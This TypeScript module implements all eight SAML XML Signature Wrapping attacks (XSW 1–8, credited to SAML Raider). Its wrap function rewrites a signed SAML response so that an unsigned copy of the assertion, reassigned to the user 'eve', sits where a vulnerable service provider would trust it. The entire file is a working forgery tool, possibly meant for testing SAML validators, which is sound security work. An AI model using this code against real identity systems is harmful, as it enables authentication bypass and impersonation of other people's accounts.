import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');

const find = (parent: Element, name: string): Element => {
  const found = Array.from(parent.childNodes).find(
    (node): node is Element => 'localName' in node && node.localName === name,
  );
  if (found === undefined) throw new Error(`no ${name}`);
  return found;
};

interface Wrapping {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  /** Returns a copy of the assertion for another person, without a signature. */
  readonly evil: Element;
}

const copyOf = (element: Element, id: string): Element => {
  const copy = element.cloneNode(true) as Element;
  copy.setAttribute('ID', id);
  const signature = Array.from(copy.childNodes).find(
    (node) => 'localName' in node && node.localName === 'Signature',
  );
  if (signature !== undefined) copy.removeChild(signature);
  return copy;
};

const own = ({ document }: Wrapping, name: string): Element =>
  document.createElementNS('http://www.w3.org/2000/09/xmldsig#', name);

/** Wraps the whole response, which its own signature or the one of the assertion covers. */
const wrapResponse = (wrapping: Wrapping, place: (original: Element, of: Element) => void) => {
  const { document, response, assertion, evil } = wrapping;
  const signed = Array.from(response.childNodes).some(
    (node) => 'localName' in node && node.localName === 'Signature',
  );
  const signature = find(signed ? response : assertion, 'Signature');
  const outer = copyOf(response, '_evil-response');
  outer.replaceChild(evil, find(outer, 'Assertion'));
  const moved = signature.cloneNode(true) as Element;
  outer.insertBefore(moved, find(outer, 'Status'));
  document.replaceChild(outer, response);
  place(copyOf(response, response.getAttribute('ID') ?? ''), moved);
};

/** The eight ways to wrap signed content (XSW), as in SAML Raider. */
const ways: readonly ((wrapping: Wrapping) => void)[] = [
  (wrapping) => wrapResponse(wrapping, (original, signature) => signature.appendChild(original)),
  (wrapping) =>
    wrapResponse(wrapping, (original, signature) =>
      signature.parentNode?.insertBefore(original, signature),
    ),
  ({ response, assertion, evil }) => response.insertBefore(evil, assertion),
  ({ response, assertion, evil }) => {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  ({ response, assertion, evil }) => {
    const signature = find(assertion, 'Signature');
    assertion.removeChild(signature);
    response.insertBefore(evil, assertion);
    evil.insertBefore(signature, find(evil, 'Subject'));
  },
  ({ response, assertion, evil }) => {
    const signature = find(assertion, 'Signature');
    assertion.removeChild(signature);
    response.replaceChild(evil, assertion);
    evil.insertBefore(signature, find(evil, 'Subject'));
    signature.appendChild(assertion);
  },
  ({ document, response, assertion, evil }) => {
    const extensions = document.createElementNS(
      'urn:oasis:names:tc:SAML:2.0:protocol',
      'samlp:Extensions',
    );
    response.insertBefore(extensions, assertion);
    extensions.appendChild(evil);
  },
  (wrapping) => {
    const { response, assertion, evil } = wrapping;
    const signature = find(assertion, 'Signature');
    assertion.removeChild(signature);
    response.replaceChild(evil, assertion);
    evil.insertBefore(signature, find(evil, 'Subject'));
    signature.appendChild(own(wrapping, 'Object')).appendChild(assertion);
  },
];

export const wrappingCount = ways.length;

/** Wraps the signed content of a response (XSW 1 to 8), and adds an assertion for another person. */
export const wrap = (xml: string, way: number): string => {
  const document = parse(xml);
  const response = document.documentElement;
  const assertion = find(response, 'Assertion');
  const evil = copyOf(assertion, '_evil-assertion');
  find(find(evil, 'Subject'), 'NameID').textContent = 'eve';
  ways[way - 1]?.({ document, response, assertion, evil });
  return new XMLSerializer().serializeToString(document);
};
